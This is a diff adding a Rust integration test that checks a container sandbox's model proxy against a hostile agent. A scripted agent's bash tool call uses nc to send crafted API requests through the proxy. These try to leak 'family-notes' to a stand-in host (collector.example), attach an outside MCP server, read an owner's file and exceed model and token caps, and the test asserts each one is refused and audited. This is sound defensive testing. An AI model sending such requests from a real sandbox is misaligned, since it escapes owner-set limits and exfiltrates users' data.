@@ -1,0 +1,131 @@
+//! The model channel, attacked from inside a real container: an agent that
+//! writes its own Messages requests to the host socket (through its bridge,
+//! as any process in the container can) to make the provider fetch a URL,
+//! reach an MCP server, run a server tool, or spend more than the owner set.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod support;
+
+use serde_json::{Value, json};
+use support::*;
+
+/// Sends each request body in `bodies` (with `headers`) to the host socket
+/// through the container's bridge, printing one status line per request.
+fn hostile_script(requests: &[(&str, Value)]) -> String {
+    let mut script = String::from("cd /tmp\n");
+    for (i, (headers, body)) in requests.iter().enumerate() {
+        script.push_str(&format!(
+            "cat > b{i} <<'BODY'\n{body}\nBODY\n\
+             len=$(wc -c < b{i})\n\
+             {{ printf 'POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/json\\r\\n{headers}Content-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' \"$len\"; cat b{i}; sleep 2; }} \
+             | nc 127.0.0.1 3128 | head -n 1 | sed 's/^/request {i}: /'\n"
+        ));
+    }
+    script
+}
+
+fn base(extra: Value) -> Value {
+    let mut request = json!({
+        "model": "claude-sonnet-4-5", "max_tokens": 1024,
+        "messages": [{"role": "user", "content": "what is in the folder"}]
+    });
+    for (key, value) in extra.as_object().unwrap() {
+        request[key] = value.clone();
+    }
+    request
+}
+
+#[test]
+fn hostile_model_requests_from_a_container_are_refused_audited_and_never_sent() {
+    let install = Installation::new();
+    install.add_group("family");
+    let secret_image = json!({"type": "image", "source": {"type": "url", "url": "https://collector.example/?d=family-notes"}});
+    let requests = [
+        (
+            "",
+            base(
+                json!({"mcp_servers": [{"type": "url", "url": "https://collector.example/mcp", "name": "x"}]}),
+            ),
+        ),
+        (
+            "",
+            base(json!({"messages": [{"role": "user", "content": [secret_image]}]})),
+        ),
+        (
+            "",
+            base(json!({"tools": [{"type": "web_search_20250305", "name": "web_search"}]})),
+        ),
+        (
+            "",
+            base(json!({"model": "claude-opus-4-1", "max_tokens": 32000})),
+        ),
+        ("", base(json!({"max_tokens": 64000}))),
+        (
+            "anthropic-beta: mcp-client-2025-04-04\\r\\n",
+            base(json!({})),
+        ),
+        (
+            "",
+            base(json!({"messages": [{"role": "user", "content": [
+            {"type": "document", "source": {"type": "file", "file_id": "file_owners"}}]}]})),
+        ),
+    ];
+    let model = ScriptedModel::start(vec![
+        tool_use("bash", json!({"command": hostile_script(&requests)})),
+        answer(|request| request.last_tool_result()),
+    ]);
+    let output = install
+        .pincer(&model.url())
+        .args(["run-once", "--group", "family", "@pincer go"])
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{}", text(&output));
+    let answer = String::from_utf8_lossy(&output.stdout).into_owned();
+    for i in 0..requests.len() {
+        assert!(
+            answer.contains(&format!("request {i}: HTTP/1.1 400")),
+            "request {i} was not refused: {answer}"
+        );
+    }
+
+    // Only the runner's own two requests reached the model, with the owner's
+    // model and cap, and nothing of the hostile ones.
+    let seen = model.requests();
+    assert_eq!(seen.len(), 2, "{seen:?}");
+    for request in &seen {
+        let body = request.json();
+        assert_eq!(body["model"], "claude-sonnet-4-5");
+        assert_eq!(body["max_tokens"], 8192);
+        let text = String::from_utf8_lossy(&request.body).into_owned();
+        assert!(
+            !text.contains("collector.example") || text.contains("request 0"),
+            "{text}"
+        );
+        assert!(request.header("anthropic-beta").is_none());
+    }
+
+    let refused: Vec<Value> = install
+        .audit_of_kind("model")
+        .into_iter()
+        .filter(|e| e["allowed"] == false)
+        .collect();
+    assert_eq!(refused.len(), requests.len(), "{refused:?}");
+    let reasons: Vec<&str> = refused
+        .iter()
+        .map(|e| e["reason"].as_str().unwrap())
+        .collect();
+    for expected in [
+        "\"mcp_servers\" is not forwarded",
+        "\"url\" sources are refused",
+        "is a server tool",
+        "\"claude-opus-4-1\" is not allowed",
+        "max_tokens",
+        "\"mcp-client-2025-04-04\" is not allowed",
+        "\"file\" sources are refused",
+    ] {
+        assert!(
+            reasons.iter().any(|r| r.contains(expected)),
+            "{expected}: {reasons:?}"
+        );
+    }
+}
